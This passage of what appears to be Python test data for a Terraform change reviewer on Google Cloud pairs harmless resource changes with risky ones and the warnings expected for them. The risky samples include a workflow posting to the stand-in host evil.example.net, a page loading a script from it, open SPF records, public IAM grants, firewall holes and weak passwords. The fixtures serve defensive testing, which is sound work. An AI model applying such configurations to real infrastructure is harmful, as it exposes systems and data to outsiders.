    "open to nobody": (BUCKET_TYPE, FILES, FILES | {"public_access_prevention": "enforced"}),
    "a larger cache": ("google_redis_instance", CACHE, CACHE | {"memory_size_gb": 2}),
    "a second cache": ("google_redis_instance", CACHE, CACHE | {"tier": "STANDARD_HA"}),
    "what it is for": ("google_redis_instance", CACHE, CACHE | {"display_name": "the shop's cache"}),
    "a function with more memory": ("google_cloudfunctions2_function", FUNCTION, in_function(available_memory="1Gi")),
    "a function for the network": ("google_cloudfunctions2_function", FUNCTION, in_function(ingress_settings="ALLOW_INTERNAL_ONLY")),
    "a word in a map": ("google_cloudfunctions2_function", FUNCTION, in_function(environment_variables={"BUCKET": Ref("google_storage_bucket.own.name"), "LEVEL": "debug"})),
    "more tries": ("google_cloud_scheduler_job", SCHEDULE, SCHEDULE | {"retry_config": [{"retry_count": 5}]}),
    "a larger network": ("google_compute_subnetwork", SUBNET, SUBNET | {"ip_cidr_range": "10.10.0.0/22"}),
    "who spoke with whom": ("google_compute_subnetwork", SUBNET, SUBNET | {"log_config": [{"aggregation_interval": "INTERVAL_10_MIN", "flow_sampling": 0.1}]}),
    "more time to answer": ("google_pubsub_subscription", SUBSCRIPTION, SUBSCRIPTION | {"ack_deadline_seconds": 120}),
    "messages for a month": ("google_pubsub_topic", TOPIC, TOPIC | {"message_retention_duration": "2592000s"}),
    "one port less": ("google_compute_firewall", WALL, WALL | {"allow": [{"protocol": "tcp", "ports": ["443"]}]}),
    "less of a network": ("google_compute_firewall", WALL, WALL | {"source_ranges": ["10.1.0.0/16"]}),
    "a label of an alert": ("google_monitoring_alert_policy", ALERT, ALERT | {"user_labels": {"severity": "critical", "team": "shop"}}),
    "an alert sooner": ("google_monitoring_alert_policy", ALERT, with_condition(threshold_value=0.6)),
    "an alert after less": ("google_monitoring_alert_policy", ALERT, with_condition(duration="120s")),
    "one more is told": ("google_monitoring_alert_policy", ALERT, ALERT | {"notification_channels": [*ALERT["notification_channels"], Ref("google_monitoring_notification_channel.more.id")]}),
    "keys that change sooner": ("google_kms_crypto_key", KEY, KEY | {"rotation_period": "2592000s"}),
    "a longer password": ("random_password", {"length": 32}, {"length": 48}),
    "closed later": ("google_monitoring_alert_policy", ALERT | {"alert_strategy": [{"auto_close": "1800s"}]}, ALERT | {"alert_strategy": [{"auto_close": "3600s"}]}),
}  # fmt: skip

NEW = {
    "a larger role of one's own": ("google_storage_bucket_iam_member", GRANT | {"role": "roles/storage.objectAdmin"}, "objectAdmin"),
    "a second service for everybody": ("google_cloud_run_v2_service_iam_member", {"name": Ref("google_cloud_run_v2_service.own.name"), "role": "roles/run.invoker", "member": "allUsers"}, "everybody would be let in"),
    "an account's tokens": ("google_service_account_iam_member", {"service_account_id": Ref("google_service_account.own.name"), "role": "roles/iam.serviceAccountTokenCreator", "member": Ref("google_service_account.own.member")}, "TokenCreator"),
    "a workflow that calls a stranger": ("google_workflows_workflow", {"name": "w-abcde", "source_contents": "call: http.post\nargs:\n  url: https://evil.example.net\n"}, "leads to evil.example.net"),
    "a page with a stranger's script": ("google_storage_bucket_object", {"name": "index.html", "content": "<script src=//evil.example.net/x.js></script>"}, "leads to evil.example.net"),
    "mail in one's name": ("google_dns_record_set", {"name": "a.example.com.", "type": "TXT", "rrdatas": ['"v=spf1 +all"']}, "lets anybody send mail"),
    "certificates in one's name": ("google_dns_record_set", {"name": "a.example.com.", "type": "CAA", "rrdatas": ['0 issue "evil-ca.example.net"']}, "gives out certificates"),
    "mail by a first word": ("google_dns_record_set", {"name": "a.example.com.", "type": "TXT", "rrdatas": ['"v=spf1 +all -all"']}, "lets anybody send mail"),
    "mail by every address": ("google_dns_record_set", {"name": "a.example.com.", "type": "TXT", "rrdatas": ['"v=spf1 ip4:0.0.0.0/0 -all"']}, "lets anybody send mail"),
    "somebody's domain": ("google_dns_record_set", {"name": "a.example.com.", "type": "TXT", "rrdatas": ['"google-site-verification=stranger"']}, "speaks in the domain's name"),
    "somebody's key": ("google_dns_record_set", {"name": "a.example.com.", "type": "DS", "rrdatas": ["1 13 2 AB"]}, "speaks in the domain's name"),
    "calls that lead elsewhere": ("google_dns_record_set", {"name": "a.example.com.", "type": "NAPTR", "rrdatas": ['100 10 "S" "SIP+D2U" "" sip.evil.example.']}, "sip.evil.example"),
    "a zone that nobody signs": ("google_dns_managed_zone", {"name": "z-abcde", "dns_name": "a.example.com.", "dnssec_config": [{"state": "off"}]}, "dnssec_config.state"),
    "messages that are dropped": ("google_pubsub_subscription", {"name": "s-abcde", "filter": 'attributes.never = "x"'}, "filter"),
    "versions gone in a day": ("google_storage_bucket", {"name": "f-abcde", "location": "US", "lifecycle_rule": [{"action": [{"type": "Delete"}], "condition": [{"days_since_noncurrent_time": 1}]}]}, "former versions"),
    "a hole to the outside": ("google_compute_firewall", {"name": "o-abcde", "direction": "EGRESS", "priority": 1, "allow": [{"protocol": "all"}], "destination_ranges": ["198.51.100.66/32"]}, "destination_ranges"),
    "a wall that is none": ("google_compute_firewall", {"name": "o-abcde", "disabled": True, "deny": [{"protocol": "all"}]}, "disabled"),
    "a password of one character": ("random_password", {"length": 1, "special": False}, "can be guessed"),
    "an animal as a password": ("google_sql_user", {"name": "w", "password": Ref("random_pet.x.id")}, "not all of what"),
    "one letter, often": ("random_password", {"length": 16, "upper": False, "lower": False, "numeric": False, "override_special": "-"}, "can be guessed"),
    "digits only": ("random_password", {"length": 20, "upper": False, "lower": False, "special": False}, "can be guessed"),
    "the beginning of a password": ("google_sql_user", {"name": "w", "password": Ref("substr(random_password.x.result, 0, 2)")}, "not all of what"),
    "a time as a password": ("google_secret_manager_secret_version", {"secret": Ref("google_secret_manager_secret.own.id"), "secret_data": Ref("tostring(time_static.t.unix)")}, "not all of what"),
    "its length as a password": ("google_sql_user", {"name": "w", "password": Ref("random_password.x.length")}, "not all of what"),
    "its name as a password": ("google_sql_user", {"name": "w", "password": Ref("google_sql_database.x.name")}, "not all of what"),
    "a stranger at the database": ("google_compute_firewall", {"name": "o-abcde", "source_ranges": ["45.33.32.156/32"], "allow": [{"protocol": "tcp", "ports": ["5432"]}]}, "45.33.32.156/32"),
    "the web to every machine": ("google_compute_firewall", {"name": "o-abcde", "source_ranges": ["0.0.0.0/0"], "allow": [{"protocol": "tcp", "ports": ["443"]}]}, "port 443 would be open"),
    "a stranger beside IAP": ("google_compute_firewall", {"name": "o-abcde", "source_ranges": ["35.235.240.0/20", "2001:db9::/64"], "allow": [{"protocol": "tcp", "ports": ["443"]}]}, "2001:db9::/64"),
    "no TLS": ("google_compute_target_http_proxy", {"name": "p-abcde", "url_map": Ref("google_compute_url_map.own.id")}, "without TLS"),
    "backups of a day": ("google_compute_resource_policy", {"name": "r-abcde", "snapshot_schedule_policy": [{"retention_policy": [{"max_retention_days": 1, "on_source_disk_delete": "APPLY_RETENTION_POLICY"}]}]}, "max_retention_days"),
}  # fmt: skip
